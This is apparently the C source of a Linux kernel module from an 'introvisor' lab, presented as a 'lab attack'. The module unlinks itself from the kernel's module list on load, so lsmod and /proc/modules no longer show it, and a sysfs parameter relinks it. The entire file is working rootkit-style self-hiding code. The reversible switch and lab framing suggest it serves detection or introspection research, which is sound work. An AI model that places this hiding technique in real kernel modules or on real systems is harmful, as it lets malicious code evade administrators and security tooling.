// SPDX-License-Identifier: GPL-2.0
/*
 * Lab attack: a module that removes itself from the kernel's module list
 * (so lsmod and /proc/modules no longer show it) while its kobject stays in
 * /sys/module. Writing 0 to /sys/module/iv_hide_module/parameters/hidden
 * puts it back, after which rmmod works.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/moduleparam.h>
#include <linux/mutex.h>
#include <linux/rculist.h>
#include "iv_lookup.h"

static bool hidden;
static struct list_head *modules_head;
static struct mutex *modules_mutex;

static void iv_set_hidden(bool hide)
{
	if (hide == hidden)
		return;
	mutex_lock(modules_mutex);
	if (hide)
		list_del_rcu(&THIS_MODULE->list);
	else
		list_add_rcu(&THIS_MODULE->list, modules_head);
	mutex_unlock(modules_mutex);
	if (hide)
		synchronize_rcu();
	hidden = hide;
	pr_info("iv_hide_module: %s the module list\n", hide ? "removed from" : "back on");
}

static int iv_param_set(const char *val, const struct kernel_param *kp)
{
	bool v;
	int err = kstrtobool(val, &v);

	if (err)
		return err;
	if (modules_head)
		iv_set_hidden(v);
	return 0;
}

static int iv_param_get(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%d\n", hidden ? 1 : 0);
}

static const struct kernel_param_ops iv_hidden_ops = {
	.set = iv_param_set,
	.get = iv_param_get,
};
module_param_cb(hidden, &iv_hidden_ops, NULL, 0644);
MODULE_PARM_DESC(hidden, "1 while the module is off the module list; write 0 to put it back");

static int __init iv_init(void)
{
	modules_head = (struct list_head *)iv_lookup_name("modules");
	modules_mutex = (struct mutex *)iv_lookup_name("module_mutex");
	if (!modules_head || !modules_mutex)
		return -ENOENT;
	iv_set_hidden(true);
	return 0;
}

static void __exit iv_exit(void)
{
	pr_info("iv_hide_module: unloaded\n");
}

module_init(iv_init);
module_exit(iv_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("introvisor lab: self-hiding module");
